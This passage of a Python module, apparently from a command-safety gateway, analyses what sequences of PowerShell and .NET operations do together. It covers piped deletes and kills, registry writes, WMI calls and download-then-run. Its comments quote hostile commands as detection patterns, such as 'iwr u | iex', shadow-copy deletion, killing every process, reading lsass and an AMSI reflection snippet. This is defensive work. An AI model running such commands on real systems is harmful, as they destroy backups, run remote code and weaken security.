"""`pipeline_effects`: the effects of a whole analysis, including those only several operations make.

One operation alone cannot always say what it does to what:
1. piped input — `Get-ChildItem C:\\x -Recurse | Remove-Item` deletes the tree Get-ChildItem
   listed; `Get-Process | Stop-Process` kills every process (`Where-Object`/`ForEach-Object`
   in between leave the source but make the set unknown);
2. objects made earlier — `.Kill()` kills what `Get-Process x`/`GetProcessesByName(x)` found,
   `RegistryKey.SetValue` writes the key `OpenSubKey` opened, `Shell.Application`'s
   `InvokeVerb('delete')` deletes in the folder `Namespace(…)` named;
3. WMI classes — `Get-CimInstance Win32_ShadowCopy | Remove-CimInstance` deletes the backups;
4. download and run — `iwr u | iex`, `$s = irm u; iex $s`, `iwr u -OutFile x.exe; .\\x.exe`
   are `DOWNLOAD_EXECUTE`, whichever operations held the two halves; so is any program started
   after a downloaded archive is unpacked (`Expand-Archive`, `tar -x`, `7z x`): it may be the archive's;
5. values handed over — `(Get-Process lsass).Id`, `([Environment]::GetFolderPath('Startup'))`,
   `$_` from a listing, a relative path after `Set-Location` (`effects_values`);
6. another machine — a copy to a drive `net use` or `New-PSDrive` mapped to one earlier in the
   command is an `UPLOAD` of its source, a write there an `UPLOAD` of what is written, and a program
   started after `cd` into another machine's share runs from it (`effects_network`).
7. a script made from content the gateway did not read — copied or renamed from a file that was no
   script, downloaded, or written from a value it cannot fold — would run unjudged later (`effects_scripts`).
A .NET registry call's own text names its hive when the analyser could not (`[Registry]::LocalMachine.…`).
"""

from __future__ import annotations

import ntpath
import re
from collections.abc import Collection, Mapping, Sequence
from dataclasses import replace

from policy.rules.effects_browsers import password_pages_opened
from policy.rules.effects_common import (
    CLIPBOARD,
    LANDED,
    NAMED,
    RECURSIVE,
    Effects,
    bind,
    dedupe,
    display,
    effect,
    first,
    has_wildcard,
    landed,
    lower,
    program_stem,
    split_list,
    strip_pair,
    targets,
    unquote,
)
from policy.rules.effects_dispatch import CALLS, effects_of
from policy.rules.effects_editor import editor_files_written
from policy.rules.effects_git import pushed_to_added_remote
from policy.rules.effects_network import copied_off, mapped_drives, run_in_remote_folder, written_off
from policy.rules.effects_registry import (
    KEY_READS,
    REGISTRY_METHODS,
    registry_effect_with_key,
    registry_key_in_text,
    registry_root,
)
from policy.rules.effects_scripts import unread_scripts_of
from policy.rules.effects_security import encryptable_volume, security_software_removed, wmi_service_change
from policy.rules.effects_system import wmi_kill
from policy.rules.effects_values import (
    every_file,
    fed_effects,
    filtered_items,
    in_folder,
    listing_filter,
    through_unknown_variables,
)
from policy.rules.paths import is_remote
from policy.rules.reg_file import reg_file_effects
from policy.rules.shell.dispatch import written_files
from policy.rules.shell.ops import NETWORK_SENDERS, RUN_PATH, Effect, EffectKind, Operation, Value
from policy.rules.shell.winenv import unknown_variable

K = EffectKind

# Commands that pass their input objects on (a subset, or the same objects): the source stays
# the command before them, but which objects arrive is no longer known.
_PASS_THROUGH = frozenset({"where-object", "foreach-object", "select-object", "sort-object", "tee-object"})
_PATH_SOURCES = frozenset({"get-childitem", "get-item", "resolve-path"})
_PATH_SINKS = frozenset({"remove-item", "copy-item", "move-item", "rename-item", "clear-content", "set-acl"})
_PATH_SINKS |= {"invoke-item", "get-content", "set-content", "add-content"}
_WMI_SOURCES = frozenset({"get-ciminstance", "get-wmiobject"})
_WMI_SINKS = frozenset({"remove-ciminstance", "remove-wmiobject", "invoke-cimmethod", "invoke-wmimethod"})


def _source(ops: Sequence[Operation], index: int) -> tuple[Operation | None, bool]:
    """The command whose output reaches `ops[index]` through the pipe, and whether a filter came between."""
    op = ops[index]
    wanted, position, filtered = op.input_from, index, False
    while wanted:
        position = next((k for k in range(position - 1, -1, -1) if ops[k].name == wanted), -1)
        if position < 0:
            return None, filtered
        source = ops[position]
        if source.name not in _PASS_THROUGH:
            return source, filtered
        filtered, wanted = True, source.input_from
    return None, filtered


def _with_params(op: Operation, extra: tuple[tuple[str, str | None], ...]) -> Operation:
    return Operation(op.shell, op.name, op.params + extra, (), op.text, op.depth, None)


# `Where-Object Name -eq lsass`, `? ProcessName -like ls*`: the process names a filter keeps, by property.
_NAME_PROPERTIES = frozenset({"name", "processname"})
_NAME_TESTS = frozenset({"eq", "ieq", "ceq", "like", "ilike", "clike", "in", "contains"})


# One comparison of a script-block filter: `$_.Name -eq 'lsass'`, `$PSItem.ProcessName -like "MsMp*"`,
# `$_.Name -in 'a','b'` (S-RULE-76); clauses joined by `-or` keep what any keeps.
_BLOCK_TEST = re.compile(
    r"\$(?:_|psitem)\.(?:name|processname)\s+-[ic]?(?:eq|like|in)\s+(?P<values>(?:'[^']*'|\"[^\"$`]*\"|[\w.*?-]+)"
    r"(?:\s*,\s*(?:'[^']*'|\"[^\"$`]*\"|[\w.*?-]+))*)",
    re.IGNORECASE,
)
_BLOCK_VALUE = re.compile(r"'([^']*)'|\"([^\"]*)\"|([\w.*?-]+)")


def _block_filter_names(text: str) -> list[str | None] | None:
    """The names a `Where-Object { … }` filter keeps when its block is only name comparisons joined by
    `-or`; None for any other block (then the kill is judged as before: a filter not read)."""
    start, end = text.find("{"), text.rfind("}")
    if start < 0 or end <= start:
        return None
    names: list[str | None] = []
    for clause in re.split(r"\s+-or\s+", text[start + 1 : end].strip(), flags=re.IGNORECASE):
        found = _BLOCK_TEST.fullmatch(clause.strip().strip("()").strip())
        if found is None:
            return None
        names += [next(g for g in m.groups() if g is not None) for m in _BLOCK_VALUE.finditer(found.group("values"))]
    return names or None


def _filter_names(ops: Sequence[Operation], index: int) -> tuple[str | None, ...] | None:
    """The names the `Where-Object` filters piped into `ops[index]` keep (a constant `Name`/`ProcessName`
    compared with -eq/-like/-in …), None when there is no such filter or one is not read so (a script block)."""
    names: list[str | None] = []
    wanted, position = ops[index].input_from, index
    while wanted in _PASS_THROUGH:
        position = next((k for k in range(position - 1, -1, -1) if ops[k].name == wanted), -1)
        if position < 0:
            return None
        step = ops[position]
        if step.name == "where-object":
            prop = lower(step.args[0]) if step.args else ""
            tests = [(k, v) for k, v in step.params if k in _NAME_TESTS]
            if prop in _NAME_PROPERTIES and tests:
                names += [v for _, v in tests]
            else:
                kept = _block_filter_names(step.text)
                if kept is None:
                    return None
                names += kept
        wanted = step.input_from
    return tuple(names) or None


def _piped_kill(
    op: Operation, source: Operation, filtered: bool, kept: tuple[str | None, ...] | None = None
) -> Effects | None:
    if source.name != "get-process" or bind(op, ("id",)).keys() & {"name", "id", "inputobject"}:
        return None
    given = bind(source, ("name",))
    names = tuple(("name", n) for n in targets(given, "name"))
    ids = tuple(("id", i) for i in targets(given, "id"))
    if names or ids:
        return effects_of(_with_params(op, names + ids))
    if filtered and kept is not None:  # the processes the filter keeps are the ones killed
        return effects_of(_with_params(op, tuple(("name", n) for n in kept)))
    if filtered:
        return None
    return (effect(K.KILL_ALL, None, "Get-Process | Stop-Process (every process)"),)


_CONTENT_OVERWRITERS = frozenset({"set-content", "clear-content"})
_PIPED_READERS = frozenset({"get-content", "copy-item", "move-item"})


def _items_of(folder: Value) -> Value:
    """The items of a listed folder as a wildcard (`~\\Documents` → `~\\Documents\\*`); a pattern stays."""
    if folder is None or has_wildcard(folder):
        return folder
    return unquote(folder).rstrip("\\/") + "\\*"


def _piped_paths(op: Operation, source: Operation) -> Effects | None:
    bound = bind(op)
    if source.name not in _PATH_SOURCES or "path" in bound or "literalpath" in bound:
        return None
    given = bind(source, ("path",))
    paths: tuple[tuple[str, Value], ...] = tuple(("path", p) for p in targets(given, "path", "literalpath"))
    paths = paths or (("path", None),)
    matching = filtered_items(source)
    if matching is not None:  # `Get-ChildItem ~\Downloads -Filter *.tmp | Remove-Item`: its .tmp files, not the folder
        paths = tuple(("path", p) for p in matching)
    recurse = (("recurse", "true"),) if op.name == "remove-item" and "recurse" in given else ()
    found = effects_of(_with_params(op, paths + recurse))
    if source.name == "get-childitem" and op.name in ("copy-item", "move-item"):
        # A listing's items, not the folder listed, go into the destination, under names nobody knows (S-RULE-147).
        items = tuple(("path", _items_of(p)) for _, p in paths)
        found += tuple(e for e in effects_of(_with_params(op, items)) if LANDED[0] in e.extra)
    if "recurse" in given and source.name == "get-childitem" and op.name in _PIPED_READERS:
        # Every file of a recursive listing is read: the folder's tree is, as `Compress-Archive` reads it, so a
        # credential store anywhere below counts; a `-Filter` keeps those a file of its name could be (S-RULE-155).
        pattern = listing_filter(given)
        extra = (*RECURSIVE, (NAMED, pattern)) if pattern else RECURSIVE
        detail = f"Get-ChildItem -Recurse | {display(op.name)}"
        found += tuple(effect(K.READ, p, detail, extra=extra) for p in targets(given, "path", "literalpath"))
    elif source.name == "get-childitem" and op.name in _PIPED_READERS and matching is None:
        # A folder's listing hands on its items: `Get-ChildItem ~\.ssh | Copy-Item …` reads each of them (S-RULE-155).
        detail = f"Get-ChildItem | {display(op.name)}"
        found += tuple(effect(K.READ, _items_of(p), detail) for _, p in paths if p is not None)
    if "recurse" not in given:
        if source.name == "get-childitem" and op.name in _CONTENT_OVERWRITERS:
            # `Get-ChildItem ~\Documents | Clear-Content` empties each file in the folder, as `…\*` names them
            items = tuple(("path", _items_of(p)) for _, p in paths)
            return found + effects_of(_with_params(op, items))
        return found
    # Every file of a recursive listing written to: the whole tree's content is gone (`every_file`).
    return tuple(every_file(e, [p for _, p in paths]) for e in found)


def _piped_service(
    op: Operation, source: Operation, filtered: bool, kept: tuple[str | None, ...] | None
) -> Effects | None:
    """`Get-Service X | Stop-Service` stops X; `Get-Service | Stop-Service` every service; through a
    `Where-Object` the names it keeps, or, for a filter not read, services the gateway cannot name."""
    bound = bind(op, ("name",))
    if source.name != "get-service" or "name" in bound or "displayname" in bound:
        return None
    given = bind(source, ("name",))
    names = tuple(("name", n) for n in targets(given, "name", "displayname"))
    if not names:
        every: tuple[str | None, ...] = (None,) if filtered else ("*",)
        names = tuple(("name", n) for n in (kept if filtered and kept is not None else every))
    return effects_of(_with_params(op, names))


def _wmi_class(op: Operation) -> str:
    bound = bind(op, ("classname",) if op.name == "get-ciminstance" else ("class",))
    found = lower(first(bound, "classname", "class"))
    query = re.search(r"\bfrom\s+(\w+)", lower(first(bound, "query")))
    return query.group(1) if query and not found else found


def _wmi_target(op: Operation, wmi_class: str, where: str, called: str | None = None) -> Effects | None:
    """What a WMI method (`called`, else the one `op` binds) does to the `wmi_class` objects `where` selects."""
    method = called if called is not None else lower(first(bind(op), "methodname", "name"))
    if wmi_class == "win32_shadowcopy" and (op.name.startswith("remove-") or method == "delete"):
        return (effect(K.DISK_DESTROY, None, "backups", extra=(("command", "Win32_ShadowCopy delete"),)),)
    if wmi_class == "win32_process" and (op.name.startswith("remove-") or method == "terminate"):
        return (wmi_kill(where),)
    if wmi_class == "win32_operatingsystem" and method in (
        "win32shutdown",
        "win32shutdowntracker",
        "shutdown",
        "reboot",
    ):
        return (effect(K.POWER, None, f"Win32_OperatingSystem {method}"),)
    if wmi_class == "win32_nteventlogfile" and method == "cleareventlog":
        return (effect(K.LOG_CLEAR, None, "Win32_NTEventlogFile ClearEventlog"),)
    if wmi_class == "win32_service":
        return wmi_service_change(method, where, *_service_arguments(op, method, called)) or None
    if wmi_class == "win32_encryptablevolume":  # `(Get-CimInstance … Win32_EncryptableVolume).Encrypt()` (S-RULE-179)
        return encryptable_volume(method, where, "WMI")
    return None


def _service_arguments(op: Operation, method: str, called: str | None) -> tuple[Value, Value]:
    """The start mode and binary path a Win32_Service method is given: `.ChangeStartMode('Disabled')`, `.Change(
    $null, 'C:\\x.exe', …, 'Disabled')` (PathName second, StartMode fifth), or `-Arguments @{PathName=…}`."""
    if called is not None:
        given = [a or None for a in op.args]  # (`$null` is an empty value)
        if method == "change":
            return (given[4] if len(given) > 4 else None), (given[1] if len(given) > 1 else None)
        return (given[0] if given else None), None
    bound = bind(op)
    if method == "change":
        return first(bound, "arguments.startmode"), first(bound, "arguments.pathname")
    return first(bound, "arguments.startmode", "argumentlist"), None


def _wmi_where(source: Operation) -> str:
    """The WQL filter or query a `Get-WmiObject`/`Get-CimInstance` selects its objects by."""
    return " ".join(strip_pair(v) for v in (first(bind(source), "filter"), first(bind(source), "query")) if v) or ""


def _piped_wmi(op: Operation, source: Operation) -> Effects | None:
    if source.name not in _WMI_SOURCES:
        return None
    return _wmi_target(op, _wmi_class(source), _wmi_where(source))


def _piped(ops: Sequence[Operation], index: int) -> Effects | None:
    op = ops[index]
    if op.input_from is None or op.shell != "powershell":
        return None
    source, filtered = _source(ops, index)
    if source is None:
        return None
    if op.name == "stop-process":
        return _piped_kill(op, source, filtered, _filter_names(ops, index))
    if op.name in _PATH_SINKS:
        return _piped_paths(op, source)
    if op.name in ("stop-service", "set-service", "suspend-service"):
        return _piped_service(op, source, filtered, _filter_names(ops, index))
    if op.name in _WMI_SINKS:
        return _piped_wmi(op, source)
    return None


# ---------------------------------------------------------------------------------------
# Objects made earlier in the same analysis


def _method(op: Operation) -> str:
    return re.split(r"::|\.", op.name)[-1]


def _is_method_call(op: Operation) -> bool:
    return op.shell in ("dotnet", "com") and op.name.removeprefix("system.") not in CALLS


def _killed_earlier(ops: Sequence[Operation], index: int) -> Effects | None:
    for earlier in reversed(ops[:index]):
        if earlier.shell == "powershell" and earlier.name == "get-process":
            given = bind(earlier, ("name",))
            found = [effect(K.KILL_FORCED, n, ".Kill() of Get-Process") for n in targets(given, "name")]
            found += [
                effect(K.KILL_FORCED, f"pid:{unquote(i)}", ".Kill() of Get-Process") for i in targets(given, "id")
            ]
            return tuple(found) or (effect(K.KILL_ALL, None, "Get-Process .Kill() (every process)"),)
        if earlier.shell == "dotnet" and earlier.name.startswith("system.diagnostics.process::getprocess"):
            name = earlier.args[0] if earlier.args else None
            if earlier.name.endswith("::getprocesses"):
                return (effect(K.KILL_ALL, None, "[Process]::GetProcesses() .Kill() (every process)"),)
            if earlier.name.endswith("::getprocessbyid"):
                return (effect(K.KILL_FORCED, f"pid:{unquote(name)}" if name else None, ".Kill() of GetProcessById"),)
            return (effect(K.KILL_FORCED, name, ".Kill() of GetProcessesByName"),)
    return None


# A ServiceController's methods (`(Get-Service X).Stop()`) as the cmdlet that does the same (S-RULE-52).
_SERVICE_METHODS = {"stop": "stop-service", "pause": "suspend-service"}
_SERVICE_CONTROLLER = "system.serviceprocess.servicecontroller"


def _service_earlier(ops: Sequence[Operation], index: int, method: str) -> Effects | None:
    """`.Stop()`/`.Pause()` of the service an earlier `Get-Service X` or `[ServiceController]::new('X')` made:
    judged as `Stop-Service X`/`Suspend-Service X` (S-RULE-52). None when no service was made before it."""
    op = ops[index]
    for earlier in reversed(ops[:index]):
        if earlier.shell == "powershell" and earlier.name == "get-service":
            names = tuple(("name", n) for n in targets(bind(earlier, ("name",)), "name", "displayname"))
        elif earlier.shell == "dotnet" and earlier.name in (
            f"{_SERVICE_CONTROLLER}::new",
            f"{_SERVICE_CONTROLLER}.new",
        ):
            names = (("name", earlier.args[0] if earlier.args else None),)
        elif earlier.shell == "powershell" and earlier.name == "new-object":
            bound = bind(earlier, ("typename", "argumentlist"))
            if not lower(first(bound, "typename")).endswith("serviceprocess.servicecontroller"):
                continue
            names = (("name", first(bound, "argumentlist")),)
        else:
            continue
        stopped = Operation("powershell", _SERVICE_METHODS[method], names, (), op.text, op.depth, None)
        return effects_of(stopped) if names else None
    return None


def _namespace_earlier(ops: Sequence[Operation], index: int) -> Effects | None:
    op = ops[index]
    method = _method(op)
    folder = item = None
    parsed = False  # `.ParseName(x)`: one item of the folder, x (None: not constant), not the folder
    for earlier in reversed(ops[:index]):
        if _method(earlier) == "parsename" and not parsed:
            item, parsed = (earlier.args[0] if earlier.args else None), True
        if _method(earlier) == "namespace" and "shell.application" in earlier.name:
            folder = earlier.args[0] if earlier.args else None
            break
    else:
        return None
    if method in ("invokeverb", "invokeverbex"):
        if lower(op.args[0] if op.args else None) != "delete":
            return ()
        if parsed:
            named = ntpath.join(folder, item) if item is not None and folder is not None else None
            return (effect(K.DELETE, named, "Shell.Application InvokeVerb delete"),)
        return (effect(K.DELETE_RECURSIVE, folder, "Shell.Application InvokeVerb delete (folder items)"),)
    source = op.args[0] if op.args else None
    first_kind = K.MOVE if method == "movehere" else K.READ
    return (
        effect(first_kind, source, f"Shell.Application {method}"),
        effect(K.WRITE, folder, f"Shell.Application {method}"),
        # The item goes into the folder under its own name, a folder whole (S-RULE-147).
        *landed(source, folder, f"Shell.Application {method}", tree=True),
    )


def _registry_keys_before(ops: Sequence[Operation], index: int) -> list[str | None]:
    """Every key the operations before `index` open, in order: each hive or chain (`[Registry]::LocalMachine
    .OpenSubKey('x')`, read from its text), and each subkey opened on the key opened last. None stands for
    a key that cannot be named (a subkey opened on an object of unknown key)."""
    opened: list[str | None] = []
    for earlier in ops[:index]:
        root = registry_root(earlier)
        method = _method(earlier)
        opens = method in ("opensubkey", "createsubkey") and bool(earlier.args) and earlier.args[0] is not None
        chain = registry_key_in_text(earlier.text) if root is not None or opens else None
        if chain is not None:
            opened.append(chain)
        elif root is not None and not opens:
            opened.append(root)
        elif opens:
            base = root or (opened[-1] if opened else None)
            opened.append(f"{base}\\{earlier.args[0]}" if base else None)
    return opened


def _registry_earlier(ops: Sequence[Operation], index: int) -> Effects | None:
    """A `RegistryKey` method acts on its object's key. Written as one chain, the chain names it; on a
    variable (`$s.SetValue(…)`), the object may be any key opened before: each is judged (a key that
    cannot be named leaves the target unknown), so keeping a protected key in one variable and opening
    a harmless one after it hides nothing."""
    op = ops[index]
    chain = registry_key_in_text(op.text)
    if chain is not None and _method(op) in ("opensubkey", "createsubkey"):
        # The chain read from the text already ends in the subkey this call opens: it is the whole target.
        return tuple(replace(found, target=chain) for found in effects_of(op))
    key = chain or registry_root(op)
    keys = [key] if key is not None else list(dict.fromkeys(_registry_keys_before(ops, index)))
    if not keys:
        # `.GetValue(…)` with no registry key opened before is another object's (a reflected field's): no registry
        # read. What else the call does stands (`…GetField('amsiContext', …).GetValue($null)` reaches into AMSI).
        return tuple(e for e in effects_of(op) if e.kind is not K.READ) if _method(op) in KEY_READS else None
    return tuple(
        registry_effect_with_key(found, k) if k is not None else replace(found, target=None)
        for k in keys
        for found in effects_of(op)
    )


_GLOB = re.compile(r"[*?\[]")


def _selected_values(ops: Sequence[Operation], index: int, own: Effects) -> Effects:
    """A whole registry key read and piped to `Select-Object` with named properties reads only those values.

    `Get-ItemProperty …\\Winlogon | Select-Object Shell, Userinit` never shows `DefaultPassword`; without
    the `Select-Object` (or with a wildcard, or a name that is not constant) every value is read.
    """
    op = ops[index]
    after = ops[index + 1] if index + 1 < len(ops) else None
    if (
        op.name not in ("get-itemproperty", "get-item")
        or after is None
        or after.name != "select-object"
        or after.input_from != op.name
    ):
        return own
    given = [*after.args, *(v for k, v in after.params if k in ("property", "expandproperty"))]
    names = [n for g in given for n in split_list(g)]  # `Select-Object Shell, Userinit`: one array
    if not names or any(n is None or _GLOB.search(n) for n in names):
        return own
    narrowed: list[Effect] = []
    for e in own:
        if e.kind is K.READ and e.value_name is None:
            narrowed += [replace(e, value_name=n) for n in names if n is not None]
        else:
            narrowed.append(e)
    return tuple(narrowed)


# A WMI object's own methods (S-RULE-73): `(Get-WmiObject Win32_Service -Filter "Name='WinDefend'").StopService()`,
# `$p = Get-CimInstance Win32_Process -Filter …; $p.Terminate()`, `… | % { $_.ChangeStartMode('Disabled') }`.
_WMI_OBJECT_METHODS = frozenset({"stopservice", "pauseservice", "changestartmode", "change", "delete", "terminate"})
_WMI_OBJECT_METHODS |= {"encrypt", "lock", "protectkeywithpassphrase", "protectkeywithnumericalpassword", "decrypt"}


def _wmi_object_earlier(ops: Sequence[Operation], index: int, method: str) -> Effects | None:
    """A method called on an object of unknown type, judged on the WMI objects the nearest earlier
    `Get-WmiObject`/`Get-CimInstance` selected, as `Invoke-WmiMethod` of that method would be; None
    when no WMI query came before it or the method does nothing the rules judge on that class."""
    for earlier in reversed(ops[:index]):
        if earlier.shell == "powershell" and earlier.name in _WMI_SOURCES:
            return _wmi_target(ops[index], _wmi_class(earlier), _wmi_where(earlier), called=method)
    return None


def _wmi_input_earlier(ops: Sequence[Operation], index: int) -> Effects | None:
    """`$v = Get-CimInstance …; $v | Invoke-CimMethod -MethodName X` and `Invoke-CimMethod -InputObject (Get-CimInstance
    …) -MethodName X`: a WMI sink named no class of its own acts on the objects the nearest earlier query selected
    (S-RULE-178), as a method called on them would (`_wmi_object_earlier`)."""
    op = ops[index]
    if op.shell != "powershell" or op.name not in _WMI_SINKS or op.name.startswith("remove-"):
        return None
    bound = bind(op)
    if any(k in bound for k in ("class", "classname", "query", "path")):
        return None  # a class of its own (`_wmi_method` reads it)
    for earlier in reversed(ops[:index]):
        if earlier.shell == "powershell" and earlier.name in _WMI_SOURCES:
            return _wmi_target(op, _wmi_class(earlier), _wmi_where(earlier))
    return None


def _in_context(ops: Sequence[Operation], index: int) -> Effects | None:
    op = ops[index]
    piped = _piped(ops, index)
    if piped is not None:
        return piped
    from_input = _wmi_input_earlier(ops, index)
    if from_input is not None:
        return from_input
    if not _is_method_call(op) and registry_root(op) is None:
        return None
    method = _method(op)
    if method == "kill" and not op.args:
        return _killed_earlier(ops, index)
    if method in _WMI_OBJECT_METHODS and op.name.startswith("?."):
        found = _wmi_object_earlier(ops, index, method)
        if found is not None:
            return found
    if method in _SERVICE_METHODS and op.name.startswith(("?.", f"{_SERVICE_CONTROLLER}.")):
        return _service_earlier(ops, index, method)
    if method in ("invokeverb", "invokeverbex", "movehere", "copyhere"):
        return _namespace_earlier(ops, index)
    if method in REGISTRY_METHODS and op.shell == "dotnet":
        return _registry_earlier(ops, index)
    return None


# ---------------------------------------------------------------------------------------
# Whole-analysis rules


_WMI_NAMES = re.compile(r"cim|wmi|management|wbem")


def _shadow_copies_deleted(ops: Sequence[Operation]) -> Effects:
    named = any(
        _WMI_NAMES.search(op.name)
        and any("win32_shadowcopy" in lower(v) for v in (*op.args, *(v for _, v in op.params)))
        for op in ops
    )
    deleting = any(op.name in ("remove-ciminstance", "remove-wmiobject") or _method(op) == "delete" for op in ops)
    if named and deleting:
        return (effect(K.DISK_DESTROY, None, "backups", extra=(("command", "Win32_ShadowCopy delete"),)),)
    return ()


_DOWNLOAD_CMDLETS = frozenset({"invoke-webrequest", "invoke-restmethod", "start-bitstransfer"})
_DOWNLOAD_METHODS = frozenset(
    {"downloadstring", "downloaddata", "downloadfile", "openread", "downloadstringtaskasync", "downloaddatataskasync"}
    | {"downloadfiletaskasync", "getstringasync", "getbytearrayasync", "getstreamasync", "getasync"}
)
_SHELLS = frozenset({"powershell", "pwsh", "cmd"})


def _is_download(op: Operation) -> bool:
    if op.shell == "powershell":
        return op.name in _DOWNLOAD_CMDLETS
    if op.shell == "program":
        name = program_stem(op.name)
        words = [lower(w) for w in op.args]
        return (
            name in ("curl", "wget", "bitsadmin")
            or (name == "certutil" and any("urlcache" in w for w in words))
            or (name == "mpcmdrun" and any(w.lstrip("-/") == "downloadfile" for w in words))
        )
    if op.shell in ("dotnet", "com"):
        method = _method(op)
        return method in _DOWNLOAD_METHODS or (method == "send" and re.search(r"xmlhttp|winhttp", op.name) is not None)
    return False


def _url_of(op: Operation) -> str | None:
    if op.shell == "powershell":
        return first(bind(op, ("uri",) if op.name != "start-bitstransfer" else ("source",)), "uri", "source")
    return next((a for a in op.args if a is not None and re.match(r"(?i)(?:https?|ftp)://", a.strip("'\""))), None)


def _fetches_from_a_share(op: Operation, mapped: Collection[str] = ()) -> bool:
    """A copy from another machine's share to this one (`Copy-Item \\\\host\\drop\\x.exe C:\\t`, `robocopy`,
    `esentutl /y`, `replace`, `expand`): a download over SMB, as `iwr` is one over HTTP (S-RULE-174)."""
    found = effects_of(op)
    return any(e.kind is K.READ and is_remote(e.target, mapped) for e in found) and any(
        e.kind is K.WRITE and e.target is not None and not is_remote(e.target, mapped) for e in found
    )


def _runs_code(op: Operation) -> bool:
    """Whether `op` runs code it was handed at run time (not a constant the analyser already read)."""
    if op.shell == "powershell" and op.name == "invoke-expression":
        given = [*op.args, *(v for k, v in op.params if k == "command")]
        return op.input_from is not None or not given or any(v is None for v in given)
    if op.shell == "dotnet" and op.name.endswith("scriptblock::create"):
        return not op.args or any(a is None for a in op.args)
    if op.shell == "program" and program_stem(op.name) in _SHELLS:
        return op.input_from is not None or "-" in [lower(w) for w in op.args] or any(w is None for w in op.args)
    return False


def _same_file(target: str | None, produced: set[str]) -> bool:
    if target is None:
        return True
    base = ntpath.basename(unquote(target).replace("/", "\\")).lower()
    return base in produced or base.rsplit(".", 1)[0] in {p.rsplit(".", 1)[0] for p in produced}


_EXTRACTORS = frozenset({"tar", "7z", "7za", "7zr", "unzip", "expand", "extrac32"})


def _unpacks(op: Operation) -> bool:
    return (op.shell == "powershell" and op.name == "expand-archive") or (
        op.shell in ("program", "cmd") and program_stem(op.name) in _EXTRACTORS
    )


def _expands(op: Operation, produced: set[str]) -> bool:
    """Whether `op` unpacks an archive the command downloaded (`Expand-Archive a.zip`, `tar -xf a.zip`)."""
    words = [*op.args, *(v for _, v in op.params)]
    return _unpacks(op) and any(w is not None and _same_file(w, produced) for w in words)


def _runs_after(ops: Sequence[Operation], produced: set[str]) -> list[Operation]:
    """What starts a program after a downloaded archive was unpacked: any of it may be the archive's. An archive
    unpacked straight from another machine's share (`expand \\\\host\\drop\\x.cab -F:* C:\\t`) counts too."""
    start = next(
        (
            i
            for i, op in enumerate(ops)
            if (produced and _expands(op, produced)) or (_unpacks(op) and _fetches_from_a_share(op))
        ),
        None,
    )
    if start is None:
        return []
    return [op for op in ops[start + 1 :] if op.shell == "program" or any(e.kind is K.EXECUTE for e in effects_of(op))]


def _fetched_then_run(
    ops: Sequence[Operation], fetches: list[Operation], producers: list[Operation]
) -> tuple[Operation, Operation] | None:
    """The first fetch and the first run that may start what the command fetched or produced, or None."""
    if not producers:
        return None
    produced = {
        ntpath.basename(unquote(e.target).replace("/", "\\")).lower()
        for op in producers
        for e in effects_of(op)
        if e.kind is K.WRITE and e.target is not None
    }
    runs = [op for op in ops if _runs_code(op)]
    runs += [
        op
        for op in ops
        if any(
            e.kind is K.EXECUTE and (produced or e.target is None) and _same_file(e.target, produced)
            for e in effects_of(op)
        )
    ]
    runs += [
        op for op in ops if op.shell == "program" and produced and _same_file(op.name, produced) and op not in producers
    ]
    runs += _runs_after(ops, produced)
    if not runs or not (fetches or produced):
        return None
    run = runs[0]
    if run.name == RUN_PATH:  # a program started by its path (`<run>`): named by the program, as before
        run = next((op for op in ops[ops.index(run) + 1 :] if op.shell == "program"), run)
    return (fetches[0] if fetches else producers[0]), run


def _download_execute(ops: Sequence[Operation]) -> Effects:
    downloads = [op for op in ops if _is_download(op)]
    producers = downloads + [op for op in ops if op.shell == "program" and program_stem(op.name) == "certutil"]
    found = _fetched_then_run(ops, downloads, producers)
    if found is None:
        return ()
    source, run = found
    return (effect(K.DOWNLOAD_EXECUTE, _url_of(source), f"download then run ({source.name} + {run.name})"),)


def _share_copy_run(ops: Sequence[Operation]) -> Effects:
    """A program copied from another machine's share and then run (`Copy-Item \\\\host\\drop\\x.exe C:\\t;
    C:\\t\\x.exe`) runs that machine's code as starting it from the share does: an `EXECUTE` of the share's path
    (judge row `remote-code`, ask), not a download from the internet (S-RULE-174)."""
    mapped = mapped_drives(ops)  # `net use Z: \\\\host\\drop; Copy-Item Z:\\x.exe …` copies from the share too
    copies = [op for op in ops if _fetches_from_a_share(op, mapped)]
    found = _fetched_then_run(ops, copies, copies)
    if found is None:
        return ()
    source, run = found
    share = next((e.target for e in effects_of(source) if e.kind is K.READ and is_remote(e.target, mapped)), None)
    drive = mapped.get(unquote(share)[:2].lower()) if share is not None else None
    if drive is not None:  # `Z:\\x.exe` is `\\\\host\\drop\\x.exe`: named so, the judge knows it is another machine's
        share = drive.rstrip("\\/") + "\\" + unquote(share)[2:].lstrip("\\/")
    return (effect(K.EXECUTE, share, f"copied from another machine's share, then run ({source.name} + {run.name})"),)


# What reads a file's content into the script, and what sends a value it is handed off the machine.
_CONTENT_READERS = frozenset({"get-content", "import-csv", "import-clixml"})
_FILE_READ_CALLS = re.compile(r"system\.io\.file::(?:readall(?:text|bytes|lines)|readlines|openread|opentext)$")
# The clipboard's text read by .NET (`[Windows.Forms.Clipboard]::GetText()`, WPF's `[Windows.Clipboard]`).
_CLIPBOARD_READ_CALLS = re.compile(r"(?:system\.)?windows\.(?:forms\.)?clipboard::get(?:text|data|dataobject)$")
_BODY_SENDERS = frozenset({"invoke-webrequest", "invoke-restmethod", "send-mailmessage"})
_UPLOAD_METHODS = frozenset(
    {"uploadstring", "uploaddata", "uploadvalues", "uploadstringasync", "uploaddataasync", "uploadvaluesasync"}
    | {"uploadstringtaskasync", "uploaddatataskasync", "postasync", "putasync", "patchasync", "sendasync"}
)


# What puts a computed value into an address another machine sees (S-RULE-121): a web request's URL, a DNS
# lookup's name (the name server learns it), a ping's target, a browser's address.
_ADDRESS_CMDLETS: Mapping[str, tuple[str, ...]] = {
    "invoke-webrequest": ("uri",),
    "invoke-restmethod": ("uri",),
    "resolve-dnsname": ("name",),
    "test-netconnection": ("computername",),
    "test-connection": ("targetname", "computername"),
}
_ADDRESS_PROGRAMS = frozenset(
    {"nslookup", "ping", "tracert", "pathping", "curl", "wget", "msedge", "chrome", "firefox", "iexplore", "brave"}
)


def _sends_a_value(op: Operation) -> bool:
    """Whether `op` sends a value the script computed (not a constant it spells) to another machine: a web
    request's `-Body` or piped input, a mail's body, a WebClient/HttpClient upload of a value, and a computed
    address (a URL, a name to look up, a host to ping, a page for a browser: the value travels in it)."""
    if op.shell == "powershell" and op.name in _ADDRESS_CMDLETS:
        named = [v for k, v in op.params if k in _ADDRESS_CMDLETS[op.name]]
        if any(v is None for v in named) or (not named and op.args[:1] == (None,)):
            return True
